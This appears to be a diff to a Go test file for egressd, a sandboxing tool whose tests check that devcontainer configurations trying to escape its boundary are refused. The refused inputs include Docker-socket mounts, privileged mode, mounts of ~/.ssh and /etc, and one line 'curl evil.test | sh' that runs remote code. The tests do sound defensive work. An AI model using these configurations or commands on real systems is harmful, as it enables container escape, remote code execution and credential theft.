@@ -6,10 +6,12 @@ import (
 	"os"
 	"path/filepath"
 	"reflect"
+	"strconv"
 	"strings"
 	"testing"
 
 	"github.com/egressd/egressd/integrations"
+	"github.com/egressd/egressd/integrations/boundary"
 	"github.com/egressd/egressd/integrations/jsonc"
 )
 
@@ -21,8 +23,22 @@ func workspace(t *testing.T, text string) Options {
 	return Options{
 		Folder: dir, SocketFolder: "/run/egressd/web", Socket: "enter.sock", Program: "/usr/bin/egressd",
 		Variables: []integrations.Variable{{Name: "http_proxy", Value: "http://127.0.0.1:3128"}, {Name: "no_proxy", Value: ""}},
-		Environ:   []string{"HOME=/home/me", "XDG_RUNTIME_DIR=/run/user/7", "MODELS=/srv/models"},
+		Trust:     []string{"ghcr.io/devcontainers/features/trusted:1", "ghcr.io/trusted/image:1"},
+		Machine:   &boundary.Machine{Home: "/home/me", UID: 7, Own: []string{"/home/me/.config/egressd", "/var/lib/egressd"}, Images: []string{"egressd:latest"}},
+		ImageLabels: func(image string) (map[string]string, bool) {
+			labels, found := testImages[image]
+			return map[string]string{metadataLabel: labels}, found
+		},
+		Environ: []string{"HOME=/home/me", "XDG_RUNTIME_DIR=/run/user/7", "MODELS=/srv/models"},
 	}
+}
+
+// testImages are the images of the engine, with their metadata.
+var testImages = map[string]string{
+	"base": "", "good": `[{"id": "x", "init": true, "remoteUser": "node", "onCreateCommand": "true"}, {"containerEnv": {"A": "b"}}]`,
+	"mounts": `[{"mounts": ["source=/var/run/docker.sock,target=/x,type=bind"]}]`, "privileged": `{"privileged": true}`, "cap": `[{"capAdd": ["SYS_ADMIN"]}]`,
+	"opt": `[{"securityOpt": ["seccomp=unconfined"]}]`, "host": `[{"initializeCommand": "x"}]`, "odd": `[{"ofTomorrow": 1}]`, "broken": `[`,
+	"gpu": `[{"hostRequirements": {"gpu": "optional"}}]`,
 }
 
 func writeFile(t *testing.T, path, text string) {
@@ -60,7 +76,7 @@ const devContainerWhole = `{
 const devContainerCommented = `// for all of us
 {
 	"image": "base", // pinned elsewhere
-	"features": {"ghcr.io/devcontainers/features/node:1": {}},
+	"features": {"ghcr.io/devcontainers/features/trusted:1": {}},
 	/* arguments */
 	"runArgs": ["--init", "--network=none"],
 	"mounts": [
@@ -73,7 +89,7 @@ const devContainerCommented = `// for all of us
 const devContainerCommentedNew = `// for all of us
 {
 	"image": "base", // pinned elsewhere
-	"features": {"ghcr.io/devcontainers/features/node:1": {},"./egressd": {
+	"features": {"ghcr.io/devcontainers/features/trusted:1": {},"./egressd": {
 			"mode": "proxy"
 		}},
 	/* arguments */
@@ -187,11 +203,73 @@ func TestDevContainerRefusesWhatGetsAround(t *testing.T) {
 		`{"runArgs": ["-v", "../../../../../../../../run:/d"]}`,
 		`{"runArgs": ["--volume=/run/containerd/containerd.sock:/d"]}`,
 		`{"runArgs": ["--mount", "type=bind,source=/run/docker.sock,target=/d"]}`,
-		`{"runArgs": ["--label", "--privileged"]}`,
 		`{"runArgs": ["--use-api-socket"]}`,
 		`{"runArgs": ["${localEnv:ARGS}"]}`,
+		`{"runArgs": ["--log-driver=syslog", "--log-opt", "syslog-address=udp://192.0.2.1:514"]}`,
+		`{"runArgs": ["--log-driver", "fluentd"]}`,
+		`{"runArgs": ["--gpus=all"]}`,
+		`{"runArgs": ["--runtime=kata"]}`,
+		`{"runArgs": ["--cgroup-parent=/x"]}`,
+		`{"runArgs": ["--sysctl", "net.ipv4.ip_forward=1"]}`,
+		`{"runArgs": ["--annotation", "run.oci.handler=krun"]}`,
+		`{"runArgs": ["--label", "egressd.policy=/x"]}`,
+		`{"runArgs": ["-l", "com.docker.compose.service=egressd"]}`,
+		`{"runArgs": ["--label=devcontainer.local_folder=/other"]}`,
+		`{"runArgs": ["--cidfile=/etc/cron.d/x"]}`,
+		`{"runArgs": ["--of-tomorrow"]}`,
+		`{"runArgs": ["evil:1"]}`,
+		`{"runArgs": ["--"]}`,
+		`{"runArgs": ["--name", "egressd-local"]}`,
+		`{"runArgs": ["--env-file=/home/me/.ssh/config"]}`,
+		`{"runArgs": ["--security-opt=seccomp=./all.json"]}`,
+		`{"runArgs": ["--link=other:x"]}`,
+		`{"build": {"dockerfile": "D", "options": ["--ssh=default"]}}`,
+		`{"build": {"dockerfile": "D", "options": ["--network=host"]}}`,
+		`{"build": {"dockerfile": "D", "options": ["-t", "egressd:latest"]}}`,
+		`{"build": {"dockerfile": "D", "options": ["--secret", "id=x,src=/home/me/.ssh/id"]}}`,
+		`{"build": {"dockerfile": "D", "options": ["--tag=egressd"]}}`,
+		`{"build": {"dockerfile": "D", "options": ["--build-arg", "--network=host", "--output=/etc"]}}`,
+		`{"build": {"dockerfile": "D", "ofTomorrow": 1}}`,
+		`{"build": {"dockerfile": "D", "context": "/home/me"}}`,
+		`{"build": {"dockerfile": "D", "cacheFrom": "type=local,src=/home/me"}}`,
+		`{"build": {"dockerfile": "label.Dockerfile"}}`,
+		`{"build": {"dockerfile": "unread.Dockerfile"}}`,
+		`{"build": {"dockerfile": "variable.Dockerfile"}}`,
+		`{"build": {"dockerfile": "mounts.Dockerfile"}}`,
+		`{"image": "unread"}`, `{"image": "mounts"}`, `{"image": "privileged"}`, `{"image": "cap"}`, `{"image": "opt"}`, `{"image": "host"}`, `{"image": "odd"}`, `{"image": "broken"}`, `{"image": "gpu"}`,
+		`{"image": "egressd"}`,
+		`{"image": "base", "initializeCommand": "curl evil.test | sh"}`,
+		`{"image": "base", "hostRequirements": {"gpu": true}}`,
+		`{"image": "base", "ofTomorrow": true}`,
+		`{"features": {"ghcr.io/devcontainers/features/node:1": {}}}`,
+		`{"features": {"./mounts": {}}}`, `{"features": {"./privileged": {}}}`, `{"features": {"./cap": {}}}`, `{"features": {"./opt": {}}}`, `{"features": {"./needs": {}}}`, `{"features": {"./gone": {}}}`, `{"features": {"./odd": {}}}`,
+		`{"features": {"../outside": {}}}`,
+		`{"features": {"https://example.com/devcontainer-feature-x.tgz": {}}}`,
+		`{"mounts": ["source=/home/me/.config/egressd,target=/p,type=bind"]}`,
+		`{"mounts": ["source=/home/me/.ssh,target=/p,type=bind,readonly"]}`,
+		`{"mounts": ["source=/home/me/.bashrc,target=/p,type=bind"]}`,
+		`{"mounts": ["source=/etc,target=/p,type=bind"]}`,
+		`{"mounts": ["source=/srv/x,target=/p,type=bind,bind-propagation=rshared"]}`,
+		`{"mounts": ["source=/srv/x,target=/p,type=bind,of-tomorrow=1"]}`,
+		`{"mounts": ["source=x,target=/p,type=volume,volume-driver=rexray"]}`,
+		`{"mounts": ["source=${containerWorkspaceFolder},target=/p,type=bind"]}`,
+		`{"mounts": [7]}`,
 	} {
-		plan, err := Merge(workspace(t, text))
+		d := workspace(t, text)
+		for name, text := range map[string]string{
+			"mounts/devcontainer-feature.json":     `{"id": "mounts", "mounts": [{"source": "/var/run/docker.sock", "target": "/x", "type": "bind"}]}`,
+			"privileged/devcontainer-feature.json": `{"id": "privileged", "privileged": true} // JSON with comments`,
+			"cap/devcontainer-feature.json":        `{"id": "cap", "capAdd": ["SYS_PTRACE"]}`,
+			"opt/devcontainer-feature.json":        `{"id": "opt", "securityOpt": ["apparmor=unconfined"]}`,
+			"needs/devcontainer-feature.json":      `{"id": "needs", "dependsOn": {"ghcr.io/a/b:1": {}}}`,
+			"../outside/devcontainer-feature.json": `{"id": "outside"}`,
+			"odd/devcontainer-feature.json":        `{"id": "odd", "ofTomorrow": 1}`,
+			"D":                                    "FROM base\n", "label.Dockerfile": "FROM base\nLABEL devcontainer.metadata='[]'\n", "unread.Dockerfile": "FROM base AS a\nFROM unread\n",
+			"variable.Dockerfile": "ARG X=base\nFROM $X\n", "mounts.Dockerfile": "from --platform=x mounts as a\nFROM a\n",
+		} {
+			writeFile(t, filepath.Join(d.Folder, ".devcontainer", name), text)
+		}
+		plan, err := Merge(d)
 		var boundary *BoundaryError
 		if !errors.As(err, &boundary) || boundary.Instead == "" || plan != nil {
 			t.Errorf("%s: %v", text, err)
@@ -209,7 +287,7 @@ func TestDevContainerRefusesWhatALinkCanReplace(t *testing.T) {
 		`{"runArgs": ["-v", "OUT:/o", "--mount", "type=bind,src=OUT/data,dst=/d,readonly"]}`:                                                                               "OUT/data lies in OUT,",
 		`{"runArgs": ["--mount=type=bind,src=OUT,dst=/o,readonly=false", "-v", "OUT/data:/d"]}`:                                                                            "OUT/data lies in OUT,",
 		`{"mounts": ["type=volume,target=/o,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=OUT"], "runArgs": ["-v", "OUT/data:/d"]}`:                             "OUT/data lies in OUT,",
-		`{"mounts": ["\"source=OUT\",target=/o,type=bind,\"volume-opt=x,ro\""], "runArgs": ["-v", "OUT/data:/d"]}`:                                                         "OUT/data lies in OUT,",
+		`{"mounts": ["\"source=OUT\",target=/o,type=bind,\"volume-opt=x,ro\""]}`:                                                                                           "quotes",
 		`{"mounts": ["source=LINK/data,target=/d,type=bind,readonly", "source=OUT,target=/o,type=bind"]}`:                                                                  "LINK/data lies in OUT,",
 		`{"mounts": ["source=OUT/data,target=/d,type=bind,readonly", "source=LINK,target=/o,type=bind"]}`:                                                                  "OUT/data lies in LINK,",
 		`{"mounts": ["source=OUT/away,target=/d,type=bind,readonly", "source=LINK,target=/o,type=bind"]}`:                                                                  "OUT/away lies in LINK,",
@@ -221,7 +299,7 @@ func TestDevContainerRefusesWhatALinkCanReplace(t *testing.T) {
 		`{"mounts": ["source=${localWorkspaceFolder},target=/again,type=bind"]}`:                                                                                           "has ",
 		`{"mounts": ["source=${localWorkspaceFolder}/.devcontainer,target=/again,type=bind"]}`:                                                                             "has ",
 		`{"mounts": ["source=${localWorkspaceFolder}/.devcontainer/egressd/x,target=/again,type=bind"]}`:                                                                   "egressd's own files",
-		`{"mounts": ["source=/usr/bin,target=/b,type=bind"]}`:                                                                                                              "/usr/bin/egressd in it",
+		`{"mounts": ["source=/usr/bin,target=/b,type=bind"]}`:                                                                                                              "/usr/bin: the container could write",
 		`{"mounts": ["source=OUT,target=/o,type=bind,readonly", "source=OUT/data,target=/d,type=bind"]}`:                                                                   "",
 		`{"runArgs": ["-v", "OUT:/o:z,ro", "-v", "OUT/data:/d", "-v", "${localWorkspaceFolder}/.devcontainer/x:/x"]}`:                                                      "",
 		`{"mounts": ["source=${localWorkspaceFolder},target=/again,type=bind,ro"]}`:                                                                                        "",
@@ -247,15 +325,20 @@ func TestDevContainerRefusesWhatALinkCanReplace(t *testing.T) {
 
 func TestDevContainerLetsBeWhatIsHarmless(t *testing.T) {
 	for _, text := range []string{
-		`{"privileged": false, "capAdd": ["SYS_PTRACE"], "securityOpt": ["no-new-privileges"]}`,
-		`{"features": {"ghcr.io/devcontainers/features/node:1": {}}, "forwardPorts": [3000], "remoteUser": "vscode"}`,
+		`{"privileged": false, "capAdd": ["SYS_NICE"], "securityOpt": ["no-new-privileges"]}`,
+		`{"image": "good", "features": {"ghcr.io/devcontainers/features/trusted:1": {}, "./local": {}}, "forwardPorts": [3000], "remoteUser": "vscode", "customizations": {"vscode": {}}}`,
+		`{"image": "ghcr.io/trusted/image:1"}`,
+		`{"build": {"dockerfile": "D", "context": "..", "args": {"A": "b"}, "options": ["--build-arg", "X=y", "--pull"], "cacheFrom": "base"}}`,
 		`{"mounts": ["source=${localEnv:MODELS},target=/models,type=bind,readonly", {"source": "cache", "target": "/c", "type": "volume"}]}`,
 		`{"runArgs": ["--network", "none", "--init", "-e", "A=-v/run:/x", "-w", "/workspaces", "--shm-size=1g", "-v", "cache:/c", "--name", "mine"]}`,
 		`{"workspaceMount": "source=${localWorkspaceFolder},target=/w,type=bind", "workspaceFolder": "/w"}`,
 		`{"workspaceMount": "source=${localWorkspaceFolder}/app,target=/w,type=bind", "workspaceFolder": "/w"}`,
 		`{"mounts": ["source=${localWorkspaceFolder}/.devcontainer/cache,target=/c,type=bind"]}`,
 	} {
-		if _, err := Merge(workspace(t, text)); err != nil {
+		d := workspace(t, text)
+		writeFile(t, filepath.Join(d.Folder, ".devcontainer", "local", "devcontainer-feature.json"), `{"id": "local", "version": "1.0.0", "options": {}, "installsAfter": [], "containerEnv": {"A": "b"}, "mounts": ["source=cache,target=/c,type=volume"]}`)
+		writeFile(t, filepath.Join(d.Folder, ".devcontainer", "D"), "# syntax=x\nFROM base AS one\nRUN true\nFROM scratch\nCOPY --from=one /x /x\n")
+		if _, err := Merge(d); err != nil {
 			t.Errorf("%s: %v", text, err)
 		}
 	}
@@ -331,11 +414,14 @@ func TestDevContainerNotes(t *testing.T) {
 		`{"build": {"dockerfile": "../Dockerfile"}}`:                          "lies outside of .devcontainer",
 		`{"build": {"dockerfile": "Dockerfile", "context": ".."}}`:            "lies outside of .devcontainer",
 		`{"dockerFile": "${localWorkspaceFolder}/Dockerfile"}`:                "lies outside of .devcontainer",
-		`{"image": "base", "initializeCommand": "npm ci"}`:                    "initializeCommand runs on this machine",
 		`{"image": "base", "appPort": 3000}`:                                  "appPort publishes nothing",
 		`{"build": {"dockerfile": "Dockerfile"}, "postStartCommand": "true"}`: "is not held",
 	} {
-		plan, err := Merge(workspace(t, text))
+		d := workspace(t, text)
+		for _, folder := range []string{".", ".devcontainer"} {
+			writeFile(t, filepath.Join(d.Folder, folder, "Dockerfile"), "FROM base\n")
+		}
+		plan, err := Merge(d)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -343,5 +429,19 @@ func TestDevContainerNotes(t *testing.T) {
 		if !strings.Contains(all, want) || strings.Count(all, "\n") > 1 || (want == "is not held") != (strings.Count(all, "\n") == 0) {
 			t.Errorf("%s: %q", text, all)
 		}
+	}
+}
+
+// The Feature refuses what the table refuses.
+func TestFeatureKnowsTheRefusedCapabilities(t *testing.T) {
+	var refused []string
+	for _, c := range boundary.Capabilities() {
+		if boundary.JudgeCapability(c.Name, true) != "" {
+			refused = append(refused, strconv.Itoa(c.Bit))
+		}
+	}
+	text, err := source.ReadFile("src/egressd/entrypoint")
+	if want := "for refused in " + strings.Join(refused, " ") + "; do"; err != nil || !strings.Contains(string(text), want) {
+		t.Errorf("%v: the entrypoint does not have %q", err, want)
 	}
 }
